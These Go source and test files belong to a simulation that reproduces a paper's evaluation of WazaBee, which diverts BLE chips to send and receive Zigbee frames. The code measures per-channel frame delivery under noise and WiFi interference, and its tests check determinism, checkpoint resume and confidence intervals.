				t.Fatalf("size=%d mtu=%d: fragment %d is %d bytes", tc.size, tc.mtu, i, len(f))
			}
		}
		r := NewReassembler()
		var got []byte
		for _, f := range frags {
			out, err := r.Accept(f)
			if err != nil {
				t.Fatalf("size=%d mtu=%d accept: %v", tc.size, tc.mtu, err)
			}
			if out != nil {
				got = out
			}
		}
		if !bytes.Equal(got, d) {
			t.Errorf("size=%d mtu=%d: reassembly mismatch (got %d bytes, want %d)", tc.size, tc.mtu, len(got), len(d))
		}
		if r.Pending() != 0 {
			t.Errorf("size=%d mtu=%d: %d reassemblies left in flight", tc.size, tc.mtu, r.Pending())
		}
	}
}
