package experiment

import (
	"context"
	"encoding/json"
	"errors"
	"math"
	"path/filepath"
	"testing"
	"time"

	"wazabee/internal/chip"
	"wazabee/internal/obs"
)

// smallTable3Config is a fast Table III configuration for determinism
// tests: few frames, no WiFi (the classification logic is identical).
func smallTable3Config(workers int) Config {
	return Config{
		FramesPerChannel: 4,
		SamplesPerChip:   8,
		Workers:          workers,
		Seed:             9,
		SNRdB:            10,
		Obs:              obs.NewRegistry(),
	}
}

func mustJSON(t *testing.T, v any) string {
	t.Helper()
	data, err := json.Marshal(v)
	if err != nil {
		t.Fatal(err)
	}
	return string(data)
}

// TestTable3DeterministicAcrossWorkers asserts a Table III run is
// byte-identical at any worker count: every frame's randomness derives
// from (seed, channel, frame), never from scheduling.
func TestTable3DeterministicAcrossWorkers(t *testing.T) {
	model := chip.NRF52832()
	ref, err := Run(smallTable3Config(1), model, Reception)
	if err != nil {
		t.Fatal(err)
	}
	refJSON := mustJSON(t, ref)
	for _, workers := range []int{4, 8} {
		res, err := Run(smallTable3Config(workers), model, Reception)
		if err != nil {
			t.Fatal(err)
		}
		if got := mustJSON(t, res); got != refJSON {
			t.Errorf("workers=%d result differs from workers=1:\n%s\nvs\n%s", workers, got, refJSON)
		}
	}
}

// smallSweepConfig is a fast sweep for determinism tests.
func smallSweepConfig(workers int) SweepConfig {
	cfg := DefaultSweepConfig()
	cfg.SNRs = []float64{0, 5, 7, 10}
	cfg.FramesPerPoint = 10
	cfg.Seed = 3
	cfg.Workers = workers
	cfg.Obs = obs.NewRegistry()
	return cfg
}

// TestSweepDeterministicAcrossWorkers asserts the PER sweep is
// byte-identical at any worker count, including the Wilson bounds.
func TestSweepDeterministicAcrossWorkers(t *testing.T) {
	model := chip.NRF52832()
	ref, err := RunSweep(smallSweepConfig(1), model, Transmission)
	if err != nil {
		t.Fatal(err)
	}
	refJSON := mustJSON(t, ref)
	for _, workers := range []int{4, 8} {
		res, err := RunSweep(smallSweepConfig(workers), model, Transmission)
		if err != nil {
			t.Fatal(err)
		}
		if got := mustJSON(t, res); got != refJSON {
			t.Errorf("workers=%d sweep differs from workers=1:\n%s\nvs\n%s", workers, got, refJSON)
		}
	}
}

// TestSweepOrderIndependent is the regression test for the sweep's old
// order-dependent randomness (one medium advanced across all SNR points,
// so reordering the list changed every point's noise). Seeding per
// (SNR, frame) makes a point's PER a property of the point alone.
func TestSweepOrderIndependent(t *testing.T) {
	model := chip.NRF52832()
	cfg := smallSweepConfig(2)
	forward, err := RunSweep(cfg, model, Reception)
	if err != nil {
		t.Fatal(err)
	}

	rev := smallSweepConfig(2)
	rev.SNRs = make([]float64, len(cfg.SNRs))
	for i, snr := range cfg.SNRs {
		rev.SNRs[len(cfg.SNRs)-1-i] = snr
	}
	backward, err := RunSweep(rev, model, Reception)
	if err != nil {
		t.Fatal(err)
	}

	bySNR := make(map[float64]SweepPoint, len(backward))
	for _, p := range backward {
		bySNR[p.SNRdB] = p
	}
	for _, p := range forward {
		q, ok := bySNR[p.SNRdB]
		if !ok {
			t.Fatalf("SNR %g missing from reversed sweep", p.SNRdB)
		}
		if mustJSON(t, p) != mustJSON(t, q) {
			t.Errorf("SNR %g: point depends on sweep order:\nforward  %+v\nbackward %+v", p.SNRdB, p, q)
		}
	}
}

// TestSweepCarriesWilsonInterval asserts every sweep point reports a
// well-formed 95% interval around its PER.
func TestSweepCarriesWilsonInterval(t *testing.T) {
	points, err := RunSweep(smallSweepConfig(2), chip.NRF52832(), Reception)
	if err != nil {
		t.Fatal(err)
	}
	for _, p := range points {
		if p.Frames != 10 {
			t.Errorf("SNR %g: frames = %d, want 10", p.SNRdB, p.Frames)
		}
		if p.PERLo > p.PER+1e-12 || p.PERHi < p.PER-1e-12 {
			t.Errorf("SNR %g: PER %g outside its interval [%g, %g]", p.SNRdB, p.PER, p.PERLo, p.PERHi)
		}
		if p.PERLo < 0 || p.PERHi > 1 || p.PERHi-p.PERLo >= 1 {
			t.Errorf("SNR %g: malformed interval [%g, %g]", p.SNRdB, p.PERLo, p.PERHi)
		}
		if math.Abs(p.PER-(p.CorruptedRate+p.LossRate)) > 1e-12 {
			t.Errorf("SNR %g: PER %g != corrupted %g + lost %g", p.SNRdB, p.PER, p.CorruptedRate, p.LossRate)
		}
	}
}

// TestSweepCheckpointResume cancels a checkpointed sweep mid-run and
// asserts the resumed run finishes bit-identically to an uninterrupted
// reference, wherever the cancellation landed.
func TestSweepCheckpointResume(t *testing.T) {
	model := chip.NRF52832()
	ref, err := RunSweep(smallSweepConfig(2), model, Reception)
	if err != nil {
		t.Fatal(err)
	}

	path := filepath.Join(t.TempDir(), "sweep.ckpt")
	interrupted := smallSweepConfig(2)
	interrupted.Checkpoint = path
	ctx, cancel := context.WithCancel(context.Background())
	go func() {
		time.Sleep(30 * time.Millisecond)
		cancel()
	}()
	partial, perr := RunSweepContext(ctx, interrupted, model, Reception)
	cancel()

	var final []SweepPoint
	if perr != nil {
		if !errors.Is(perr, context.Canceled) {
			t.Fatalf("interrupted sweep: %v", perr)
		}
		resumed := smallSweepConfig(2)
		resumed.Checkpoint = path
		final, err = RunSweep(resumed, model, Reception)
		if err != nil {
			t.Fatal(err)
		}
	} else {
		// The run beat the cancellation — it already is the full result.
		final = partial
	}
	if mustJSON(t, final) != mustJSON(t, ref) {
		t.Errorf("resumed sweep differs from uninterrupted reference:\n%s\nvs\n%s",
			mustJSON(t, final), mustJSON(t, ref))
	}
}

// TestTable3AdaptiveStop asserts the CI-targeted mode stops channels
// early (clean channels converge fast) while still reporting sound
// intervals, and stays deterministic across worker counts.
func TestTable3AdaptiveStop(t *testing.T) {
	model := chip.CC1352R1()
	run := func(workers int) *Result {
		cfg := smallTable3Config(workers)
		cfg.FramesPerChannel = 64
		cfg.CIHalfWidth = 0.12
		res, err := Run(cfg, model, Reception)
		if err != nil {
			t.Fatal(err)
		}
		return res
	}
	ref := run(1)
	stopped := false
	for _, row := range ref.Rows {
		if row.Frames() < 64 {
			stopped = true
		}
		lo, hi := row.ValidInterval()
		rate := float64(row.Valid) / float64(row.Frames())
		if lo > rate || hi < rate {
			t.Errorf("ch %d: rate %g outside interval [%g, %g]", row.Channel, rate, lo, hi)
		}
	}
	if !stopped {
		t.Error("no channel stopped early at half-width 0.12")
	}
	if mustJSON(t, run(8)) != mustJSON(t, ref) {
		t.Error("adaptive stop not deterministic across worker counts")
	}
}

// TestPivotScanDeterministicAndSane runs the Monte-Carlo pivot survey
// and checks worker-count determinism plus the paper's qualitative
// ordering: LE 2M pivotable on every burst, LE 1M on none.
func TestPivotScanDeterministicAndSane(t *testing.T) {
	run := func(workers int) []PivotScanRow {
		cfg := DefaultPivotScanConfig()
		cfg.BurstsPerEntry = 12
		cfg.Workers = workers
		cfg.Obs = obs.NewRegistry()
		rows, err := RunPivotScan(context.Background(), cfg)
		if err != nil {
			t.Fatal(err)
		}
		return rows
	}
	ref := run(1)
	if mustJSON(t, run(8)) != mustJSON(t, ref) {
		t.Error("pivot scan not deterministic across worker counts")
	}

	byName := make(map[string]PivotScanRow, len(ref))
	for _, row := range ref {
		byName[row.Emulator] = row
		if row.Bursts != 12 {
			t.Errorf("%s: bursts = %d, want 12", row.Emulator, row.Bursts)
		}
		if row.PivotableLo > row.PivotableRate || row.PivotableHi < row.PivotableRate {
			t.Errorf("%s: rate %g outside interval [%g, %g]",
				row.Emulator, row.PivotableRate, row.PivotableLo, row.PivotableHi)
		}
	}
	le2m := byName["BLE LE 2M GFSK (m=0.5, BT=0.5)"]
	le1m := byName["BLE LE 1M GFSK (rate mismatch)"]
	if le2m.PivotableRate != 1 {
		t.Errorf("LE 2M pivotable rate = %g, want 1", le2m.PivotableRate)
	}
	if le1m.PivotableRate != 0 {
		t.Errorf("LE 1M pivotable rate = %g, want 0", le1m.PivotableRate)
	}
	if le2m.MeanScore <= le1m.MeanScore {
		t.Errorf("mean scores unordered: LE 2M %g <= LE 1M %g", le2m.MeanScore, le1m.MeanScore)
	}
}
