package experiment

import (
	"fmt"
	"testing"

	"wazabee/internal/chip"
	"wazabee/internal/experiment/runner"
	"wazabee/internal/obs"
	"wazabee/internal/radio"
)

// TestFidelitySymbolMatchesIQ is the distribution-match gate of the
// fidelity-tier calibration: for every cell of the Table III grid (both
// chip models, both sides, all 16 Zigbee channels, WiFi interference
// on), the symbol tier's per-channel valid rate must be statistically
// indistinguishable from the IQ ground truth — their 95% Wilson score
// intervals must overlap. The symbol tier runs more frames per channel
// than the IQ tier (it is orders of magnitude cheaper), tightening its
// interval so the comparison has teeth.
func TestFidelitySymbolMatchesIQ(t *testing.T) {
	if testing.Short() {
		t.Skip("IQ ground-truth sweep is slow; skipped with -short")
	}
	const (
		iqFrames  = 24
		symFrames = 160
	)
	for _, model := range []chip.Model{chip.NRF52832(), chip.CC1352R1()} {
		for _, side := range []Side{Reception, Transmission} {
			model, side := model, side
			t.Run(fmt.Sprintf("%s/%s", model.Name, side), func(t *testing.T) {
				iqCfg := DefaultConfig()
				iqCfg.FramesPerChannel = iqFrames
				iqCfg.Obs = obs.NewRegistry()
				iqRes, err := Run(iqCfg, model, side)
				if err != nil {
					t.Fatal(err)
				}

				symCfg := DefaultConfig()
				symCfg.FramesPerChannel = symFrames
				symCfg.Fidelity = radio.FidelitySymbol
				symCfg.Obs = obs.NewRegistry()
				symRes, err := Run(symCfg, model, side)
				if err != nil {
					t.Fatal(err)
				}

				for _, iqRow := range iqRes.Rows {
					symRow, ok := symRes.Row(iqRow.Channel)
					if !ok {
						t.Fatalf("symbol tier missing channel %d", iqRow.Channel)
					}
					iqLo, iqHi := runner.Wilson(iqRow.Valid, iqRow.Frames())
					symLo, symHi := runner.Wilson(symRow.Valid, symRow.Frames())
					if iqLo > symHi || symLo > iqHi {
						t.Errorf("channel %d: symbol-tier valid rate CI [%.3f, %.3f] (n=%d) does not overlap IQ CI [%.3f, %.3f] (n=%d)",
							iqRow.Channel, symLo, symHi, symRow.Frames(), iqLo, iqHi, iqRow.Frames())
					}
				}
			})
		}
	}
}

// TestFidelityFrameTierTable3 checks the cheapest tier end to end on the
// same grid: the frame tier classifies only valid/not_received (an
// erasure is indistinguishable from a sync failure at frame
// granularity), and its per-channel valid-rate interval must still
// overlap the IQ ground truth's.
func TestFidelityFrameTierTable3(t *testing.T) {
	if testing.Short() {
		t.Skip("IQ ground-truth sweep is slow; skipped with -short")
	}
	model, side := chip.NRF52832(), Reception
	iqCfg := DefaultConfig()
	iqCfg.FramesPerChannel = 24
	iqCfg.Obs = obs.NewRegistry()
	iqRes, err := Run(iqCfg, model, side)
	if err != nil {
		t.Fatal(err)
	}
	frCfg := DefaultConfig()
	frCfg.FramesPerChannel = 400
	frCfg.Fidelity = radio.FidelityFrame
	frCfg.Obs = obs.NewRegistry()
	frRes, err := Run(frCfg, model, side)
	if err != nil {
		t.Fatal(err)
	}
	for _, iqRow := range iqRes.Rows {
		frRow, ok := frRes.Row(iqRow.Channel)
		if !ok {
			t.Fatalf("frame tier missing channel %d", iqRow.Channel)
		}
		if frRow.Corrupted != 0 {
			t.Errorf("channel %d: frame tier reported %d corrupted frames (it cannot distinguish corruption)",
				iqRow.Channel, frRow.Corrupted)
		}
		// The frame tier folds corruption into the error mass, so
		// compare valid rates (valid vs anything-else) directly.
		iqLo, iqHi := runner.Wilson(iqRow.Valid, iqRow.Frames())
		frLo, frHi := runner.Wilson(frRow.Valid, frRow.Frames())
		if iqLo > frHi || frLo > iqHi {
			t.Errorf("channel %d: frame-tier valid rate CI [%.3f, %.3f] does not overlap IQ CI [%.3f, %.3f]",
				iqRow.Channel, frLo, frHi, iqLo, iqHi)
		}
	}
}

// TestFidelityTiersDeterministic pins the reproducibility contract on
// the calibrated tiers: identical configs produce identical tables at
// any worker count, exactly like the IQ tier.
func TestFidelityTiersDeterministic(t *testing.T) {
	for _, fid := range []radio.Fidelity{radio.FidelitySymbol, radio.FidelityFrame} {
		cfg := DefaultConfig()
		cfg.FramesPerChannel = 40
		cfg.Fidelity = fid
		cfg.Obs = obs.NewRegistry()
		a, err := Run(cfg, chip.NRF52832(), Reception)
		if err != nil {
			t.Fatal(err)
		}
		cfg2 := cfg
		cfg2.Workers = 3
		cfg2.Obs = obs.NewRegistry()
		b, err := Run(cfg2, chip.NRF52832(), Reception)
		if err != nil {
			t.Fatal(err)
		}
		for i := range a.Rows {
			if a.Rows[i] != b.Rows[i] {
				t.Errorf("%v: rows diverge across worker counts: %+v vs %+v", fid, a.Rows[i], b.Rows[i])
			}
		}
	}
}
