package experiment

import (
	"testing"

	"wazabee/internal/chip"
	"wazabee/internal/obs"
	oblink "wazabee/internal/obs/link"
)

// TestLinkAggregatorSeesWiFiDegradation runs Table III with the WiFi
// networks on and an aggressive duty cycle, and checks the per-channel
// link diagnostics separate the WiFi-overlapped Zigbee channels from the
// clean ones: mean LQI on every degraded channel must sit strictly below
// the mean LQI of every channel outside the interferers' bandwidth.
// Lost frames count as LQI 0, so the collapse shows up even when the
// surviving frames despread cleanly.
func TestLinkAggregatorSeesWiFiDegradation(t *testing.T) {
	cfg := DefaultConfig()
	cfg.FramesPerChannel = 20
	cfg.Obs = obs.NewRegistry()
	cfg.WiFi = true
	cfg.WiFiDutyCycle = 0.15
	cfg.Link = oblink.NewAggregator(cfg.Obs)

	if _, err := Run(cfg, chip.CC1352R1(), Reception); err != nil {
		t.Fatal(err)
	}

	// WiFi channels 6 and 11 (centres 2437/2462 MHz, 22 MHz wide)
	// straddle Zigbee channels 17–18 and 21–23; channels 11–14 and 26
	// sit well clear of both. Borderline channels (15–16, 19–20, 24–25)
	// catch only the OFDM skirts and are excluded from the comparison.
	degraded := []int{17, 18, 21, 22, 23}
	clean := []int{11, 12, 13, 14, 26}

	meanLQI := func(ch int) float64 {
		s, ok := cfg.Link.Summary(ch)
		if !ok {
			t.Fatalf("channel %d missing from the aggregator", ch)
		}
		if s.Frames != uint64(cfg.FramesPerChannel) {
			t.Fatalf("channel %d saw %d frames, want %d", ch, s.Frames, cfg.FramesPerChannel)
		}
		return s.MeanLQI
	}

	var worstClean float64 = 256
	for _, ch := range clean {
		if m := meanLQI(ch); m < worstClean {
			worstClean = m
		}
	}
	for _, ch := range degraded {
		if m := meanLQI(ch); m >= worstClean {
			t.Errorf("WiFi-degraded channel %d mean LQI %.1f not below the worst clean channel (%.1f)",
				ch, m, worstClean)
		}
	}
}
