// Package experiment regenerates the paper's evaluation: the Table III
// assessment of the WazaBee reception and transmission primitives (100
// counter-tagged frames per Zigbee channel, classified as valid, received
// with integrity corruption, or not received) under the paper's
// experimental conditions — including the WiFi networks on channels 6 and
// 11 that degrade Zigbee channels 17–18 and 21–23.
//
// All experiments run on the trial-sharded Monte-Carlo engine of
// internal/experiment/runner: every frame's randomness derives from
// (seed, point, frame index) alone, so results are bit-identical at any
// worker count, in any point order, and across checkpoint/resume
// boundaries, and every rate estimate carries a 95% Wilson interval.
package experiment

import (
	"context"
	"errors"
	"fmt"
	"strconv"

	"wazabee/internal/chip"
	"wazabee/internal/dsp"
	"wazabee/internal/experiment/runner"
	"wazabee/internal/ieee802154"
	"wazabee/internal/obs"
	oblink "wazabee/internal/obs/link"
	"wazabee/internal/radio"
	"wazabee/internal/zigbee"
)

// FramesMetric is the per-channel frame classification counter family
// of a Table III run: labels chip, side, channel and class
// (valid | corrupted | not_received).
const FramesMetric = "wazabee_experiment_frames_total"

// frameCounter returns the classification counter of one Table III cell.
func frameCounter(reg *obs.Registry, model chip.Model, side Side, channel int, class string) *obs.Counter {
	return reg.Counter(FramesMetric,
		"chip", model.Name,
		"side", side.String(),
		"channel", strconv.Itoa(channel),
		"class", class)
}

// Side selects which WazaBee primitive the run assesses.
type Side int

const (
	// Reception: a legitimate 802.15.4 radio transmits, the diverted
	// BLE chip receives.
	Reception Side = iota + 1
	// Transmission: the diverted BLE chip transmits, a legitimate
	// 802.15.4 radio (the RZUSBStick) receives.
	Transmission
)

// String implements fmt.Stringer.
func (s Side) String() string {
	switch s {
	case Reception:
		return "reception"
	case Transmission:
		return "transmission"
	default:
		return fmt.Sprintf("side(%d)", int(s))
	}
}

// Config parameterises a Table III run.
type Config struct {
	// FramesPerChannel is 100 in the paper.
	FramesPerChannel int
	// SamplesPerChip is the baseband oversampling factor.
	SamplesPerChip int
	// Workers bounds the Monte-Carlo worker pool; <= 0 means
	// runtime.GOMAXPROCS. Results do not depend on the value.
	Workers int
	// Checkpoint, when non-empty, persists completed trial shards to this
	// path: a cancelled run can resume from it and finish bit-identically
	// to an uninterrupted one.
	Checkpoint string
	// CIHalfWidth, when > 0, stops each channel adaptively once the 95%
	// Wilson half-width of its valid rate reaches this target, instead of
	// always spending FramesPerChannel frames.
	CIHalfWidth float64
	// Obs, when non-nil, receives the run's telemetry: the per-channel
	// classification counters plus everything the instrumented pipeline
	// underneath (core, radio, ieee802154) reports. Each run accumulates
	// into a private registry and merges it in at the end, so a shared
	// registry never sees a half-finished run. Nil merges into the
	// process default registry.
	Obs *obs.Registry
	// Link, when non-nil, accumulates each frame's link diagnostics
	// (SNR, CFO, chip errors, LQI) by channel, so a Table III run also
	// yields the per-channel quality picture behind its tallies.
	Link *oblink.Aggregator
	// Seed makes the run reproducible.
	Seed int64
	// SNRdB is the link budget of the 3 m lab path before the
	// receiver's noise figure is subtracted.
	SNRdB float64
	// WiFi enables the interfering networks on WiFi channels 6 and 11.
	WiFi bool
	// WiFiDutyCycle and WiFiPower shape the interference (fraction of
	// airtime, power relative to the received signal).
	WiFiDutyCycle float64
	WiFiPower     float64
	// Fidelity selects the frame-delivery tier (see radio.Fidelity):
	// FidelityIQ (the default) replays the full DSP chain, FidelitySymbol
	// draws calibrated per-symbol chip errors through the real
	// despreader, FidelityFrame reduces each frame to one erasure draw.
	// Link aggregation (Config.Link) only populates on the IQ tier.
	Fidelity radio.Fidelity
}

// DefaultConfig reproduces the paper's setup.
func DefaultConfig() Config {
	return Config{
		FramesPerChannel: 100,
		SamplesPerChip:   8,
		Seed:             1,
		SNRdB:            10,
		WiFi:             true,
		WiFiDutyCycle:    0.005,
		WiFiPower:        6.0,
	}
}

// ChannelResult is one row of Table III for one chip and side.
type ChannelResult struct {
	Channel     int
	Valid       int
	Corrupted   int
	NotReceived int
}

// Frames is the number of frames the row tallies (FramesPerChannel,
// unless adaptive stopping ended the channel early).
func (c ChannelResult) Frames() int {
	return c.Valid + c.Corrupted + c.NotReceived
}

// ValidInterval returns the 95% Wilson score interval of the row's
// valid-frame rate.
func (c ChannelResult) ValidInterval() (lo, hi float64) {
	return runner.Wilson(c.Valid, c.Frames())
}

// Result is a full 16-channel column of Table III.
type Result struct {
	Chip   string
	Side   Side
	Frames int
	Rows   []ChannelResult
}

// Totals sums the classification counts over all channels.
func (r *Result) Totals() (valid, corrupted, notReceived int) {
	for _, row := range r.Rows {
		valid += row.Valid
		corrupted += row.Corrupted
		notReceived += row.NotReceived
	}
	return valid, corrupted, notReceived
}

// ValidRate returns the fraction of frames received without corruption,
// the headline averages of section V (98.6–99.4 %).
func (r *Result) ValidRate() float64 {
	valid, corrupted, notReceived := r.Totals()
	total := valid + corrupted + notReceived
	if total == 0 {
		return 0
	}
	return float64(valid) / float64(total)
}

// ValidRateInterval returns the 95% Wilson score interval of the overall
// valid rate.
func (r *Result) ValidRateInterval() (lo, hi float64) {
	valid, corrupted, notReceived := r.Totals()
	return runner.Wilson(valid, valid+corrupted+notReceived)
}

// Row returns the result row for a channel, and false when absent.
func (r *Result) Row(channel int) (ChannelResult, bool) {
	for _, row := range r.Rows {
		if row.Channel == channel {
			return row, true
		}
	}
	return ChannelResult{}, false
}

// table3Classes is the outcome class set of a Table III trial.
var table3Classes = []string{"valid", "corrupted", "not_received"}

// Run executes the Table III experiment for one chip model and side with
// a background context. See RunContext.
func Run(cfg Config, model chip.Model, side Side) (*Result, error) {
	return RunContext(context.Background(), cfg, model, side)
}

// RunContext executes the Table III experiment for one chip model and
// side on the sharded Monte-Carlo runner: (channel, frame) work items on
// a bounded worker pool, every frame's randomness derived from
// (Seed, channel, frame) so the rows are reproducible regardless of
// parallelism and scheduling. Cancelling ctx stops the sweep; with
// cfg.Checkpoint set, the completed shards survive for resume.
func RunContext(ctx context.Context, cfg Config, model chip.Model, side Side) (*Result, error) {
	if cfg.FramesPerChannel < 1 {
		return nil, fmt.Errorf("experiment: frames per channel %d < 1", cfg.FramesPerChannel)
	}
	if side != Reception && side != Transmission {
		return nil, fmt.Errorf("experiment: invalid side %d", int(side))
	}
	// Validate the chip/side combination up front (one shared attempt)
	// so misconfiguration surfaces as an error, not sixteen of them.
	var err error
	switch side {
	case Reception:
		_, err = model.NewWazaBeeReceiver(cfg.SamplesPerChip)
	case Transmission:
		_, err = model.NewWazaBeeTransmitter(cfg.SamplesPerChip)
	}
	if err != nil {
		return nil, err
	}

	channels := ieee802154.Channels()
	// All telemetry of the run — the per-channel classification
	// counters and everything the pipeline underneath reports — lands
	// in a run-local registry, then merges into the caller's registry
	// once the run is known good.
	runReg := obs.NewRegistry()
	points := make([]runner.Point, len(channels))
	channelOf := make(map[string]int, len(channels))
	for i, channel := range channels {
		key := "ch" + strconv.Itoa(channel)
		points[i] = runner.Point{Key: key, Trials: cfg.FramesPerChannel}
		channelOf[key] = channel
	}
	spec := runner.Spec{
		Name:       "table3/" + model.Name + "/" + side.String(),
		Seed:       cfg.Seed,
		Points:     points,
		Workers:    cfg.Workers,
		Classes:    table3Classes,
		Checkpoint: cfg.Checkpoint,
		Obs:        runReg,
	}
	if cfg.CIHalfWidth > 0 {
		spec.Stop = &runner.Stop{Class: "valid", HalfWidth: cfg.CIHalfWidth}
	}

	res, err := runner.Run(ctx, spec, func(ctx context.Context, seed int64, point runner.Point, frame int) (runner.Outcome, error) {
		class, err := table3Trial(cfg, runReg, model, side, channelOf[point.Key], seed, frame)
		if err != nil {
			return runner.Outcome{}, err
		}
		return runner.Outcome{Class: class}, nil
	})
	if err != nil {
		return nil, err
	}

	result := &Result{
		Chip:   model.Name,
		Side:   side,
		Frames: cfg.FramesPerChannel,
		Rows:   make([]ChannelResult, len(channels)),
	}
	for i, pr := range res.Points {
		channel := channelOf[pr.Point.Key]
		result.Rows[i] = ChannelResult{
			Channel:     channel,
			Valid:       pr.Counts["valid"],
			Corrupted:   pr.Counts["corrupted"],
			NotReceived: pr.Counts["not_received"],
		}
		// The per-channel counters mirror the runner tallies, keeping the
		// registry the queryable record of the run.
		for _, class := range table3Classes {
			frameCounter(runReg, model, side, channel, class).Add(uint64(pr.Counts[class]))
		}
	}
	if err := obs.Or(cfg.Obs).Merge(runReg); err != nil {
		return nil, err
	}
	return result, nil
}

// table3Trial measures one Table III frame: one transmission over a
// fresh medium whose every random draw — noise, burst timing, CFO,
// interference gating — flows from the trial's derived seed and nothing
// else. That isolation is what makes the cell independent of which
// worker, and in which order, ran it.
//
// Delivery routes through radio.Channel at the configured fidelity
// tier. The per-trial operating point (medium, WiFi environment, CFO
// draw) is built identically for every tier, so the symbol and frame
// tiers measure the same grid the IQ tier does — just through the
// calibrated tables instead of the DSP chain.
func table3Trial(cfg Config, reg *obs.Registry, model chip.Model, side Side, channel int, seed int64, frame int) (string, error) {
	sampleRate := float64(cfg.SamplesPerChip) * ieee802154.ChipRate
	medium, err := radio.NewMedium(sampleRate, seed)
	if err != nil {
		return "", err
	}
	medium.Obs = reg
	if cfg.WiFi {
		burst := cfg.SamplesPerChip * 100 // ≈ a short WiFi frame
		for _, wifiChannel := range []int{6, 11} {
			w, err := radio.NewWiFiInterferer(wifiChannel, cfg.WiFiDutyCycle, cfg.WiFiPower, burst)
			if err != nil {
				return "", err
			}
			medium.AddWiFi(w)
		}
	}

	freq, err := ieee802154.ChannelFrequencyMHz(channel)
	if err != nil {
		return "", err
	}

	// The paper's frames carry a counter incremented with each frame.
	counter := uint16(frame)
	frameHdr := ieee802154.NewDataFrame(uint8(frame), zigbee.DefaultPAN, zigbee.DefaultCoordinator,
		zigbee.DefaultSensor, zigbee.SensorPayload(counter), false)
	psdu, err := frameHdr.Encode()
	if err != nil {
		return "", err
	}

	stick := chip.RZUSBStick()
	var rxNF, rxRej, txPPM, rxPPM float64
	switch side {
	case Reception:
		rxNF = model.NoiseFigureDB
		rxRej = model.InterferenceRejectionDB
		txPPM, rxPPM = stick.CrystalPPM, model.CrystalPPM
	case Transmission:
		rxNF = stick.NoiseFigureDB
		rxRej = stick.InterferenceRejectionDB
		txPPM, rxPPM = model.CrystalPPM, stick.CrystalPPM
	}

	// The CFO draw is the first consumption of the medium's seeded
	// stream on every tier, keeping the IQ results byte-identical to the
	// pre-Channel implementation and giving the calibrated tiers the
	// same per-trial operating point.
	cfoHz := (medium.Rand().Float64()*2 - 1) * (txPPM + rxPPM) * freq // 1 ppm at f MHz = f Hz
	link := radio.Link{
		SNRdB:                   cfg.SNRdB - rxNF,
		CFOHz:                   cfoHz,
		LeadSamples:             40 * cfg.SamplesPerChip,
		LagSamples:              20 * cfg.SamplesPerChip,
		InterferenceRejectionDB: rxRej,
	}

	fid := cfg.Fidelity
	if fid == 0 {
		fid = radio.FidelityIQ
	}
	var ch radio.Channel
	var st *oblink.Stats
	if fid == radio.FidelityIQ {
		ep, eperr := table3Endpoints(cfg, reg, model, side, &st)
		if eperr != nil {
			return "", eperr
		}
		ch, err = medium.Channel(fid, radio.ChannelOptions{Endpoints: ep})
	} else {
		ch, err = medium.Channel(fid, radio.ChannelOptions{
			Profile: radio.CalProfileName(model.Name, side.String()),
		})
	}
	if err != nil {
		return "", err
	}

	out, err := ch.Deliver(radio.FrameSpec{
		PSDU:      psdu,
		TxFreqMHz: freq,
		RxFreqMHz: freq,
		Link:      link,
		Seed:      uint64(seed),
	})
	if err != nil {
		return "", err
	}
	if cfg.Link != nil && st != nil {
		cfg.Link.Observe(channel, st)
	}

	switch {
	case errors.Is(out.DecodeErr, ieee802154.ErrNoSync):
		return "not_received", nil
	case out.DecodeErr != nil:
		return "", out.DecodeErr
	case out.Valid:
		return "valid", nil
	default:
		return "corrupted", nil
	}
}

// table3Endpoints builds the IQ-tier modem pair of one trial: the
// legitimate RZUSBStick O-QPSK modem on one end and the diverted BLE
// chip's WazaBee primitive on the other, with the receiver's link
// diagnostics captured into *stats for the run's aggregator.
func table3Endpoints(cfg Config, reg *obs.Registry, model chip.Model, side Side, stats **oblink.Stats) (*radio.IQEndpoints, error) {
	zigbeePHY, err := chip.RZUSBStick().NewZigbeePHY(cfg.SamplesPerChip)
	if err != nil {
		return nil, err
	}
	zigbeePHY.Obs = reg
	modulate := func(phyMod func(*ieee802154.PPDU) (dsp.IQ, error)) func([]byte) (dsp.IQ, error) {
		return func(psdu []byte) (dsp.IQ, error) {
			ppdu, err := ieee802154.NewPPDU(psdu)
			if err != nil {
				return nil, err
			}
			return phyMod(ppdu)
		}
	}
	switch side {
	case Reception:
		wazaRX, err := model.NewWazaBeeReceiver(cfg.SamplesPerChip)
		if err != nil {
			return nil, err
		}
		wazaRX.Obs = reg
		return &radio.IQEndpoints{
			Modulate: modulate(zigbeePHY.Modulate),
			Demodulate: func(capture dsp.IQ) ([]byte, error) {
				dem, st, err := wazaRX.ReceiveStats(capture)
				*stats = st
				if err != nil {
					return nil, err
				}
				return dem.PPDU.PSDU, nil
			},
		}, nil
	case Transmission:
		wazaTX, err := model.NewWazaBeeTransmitter(cfg.SamplesPerChip)
		if err != nil {
			return nil, err
		}
		wazaTX.Obs = reg
		return &radio.IQEndpoints{
			Modulate: modulate(wazaTX.Modulate),
			Demodulate: func(capture dsp.IQ) ([]byte, error) {
				dem, st, err := zigbeePHY.DemodulateStats(capture)
				*stats = st
				if err != nil {
					return nil, err
				}
				return dem.PPDU.PSDU, nil
			},
		}, nil
	default:
		return nil, fmt.Errorf("experiment: invalid side %d", int(side))
	}
}
