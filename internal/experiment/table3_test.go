package experiment

import (
	"strings"
	"testing"

	"wazabee/internal/chip"
)

// quickConfig trims the run for unit tests; the full 100-frame runs live
// in the benchmarks and the cmd/table3 binary.
func quickConfig() Config {
	cfg := DefaultConfig()
	cfg.FramesPerChannel = 6
	return cfg
}

func TestSideString(t *testing.T) {
	if Reception.String() != "reception" || Transmission.String() != "transmission" {
		t.Error("unexpected Side strings")
	}
	if Side(9).String() != "side(9)" {
		t.Error("unexpected invalid Side string")
	}
}

func TestRunValidation(t *testing.T) {
	cfg := quickConfig()
	cfg.FramesPerChannel = 0
	if _, err := Run(cfg, chip.NRF52832(), Reception); err == nil {
		t.Error("expected error for zero frames")
	}
	if _, err := Run(quickConfig(), chip.NRF52832(), Side(9)); err == nil {
		t.Error("expected error for invalid side")
	}
	if _, err := Run(quickConfig(), chip.RZUSBStick(), Reception); err == nil {
		t.Error("expected error for a chip without BLE radio")
	}
}

func TestRunReceptionCleanChannels(t *testing.T) {
	cfg := quickConfig()
	cfg.WiFi = false
	res, err := Run(cfg, chip.CC1352R1(), Reception)
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Rows) != 16 {
		t.Fatalf("rows = %d, want 16", len(res.Rows))
	}
	// Without interference the reception primitive must be essentially
	// lossless on every channel.
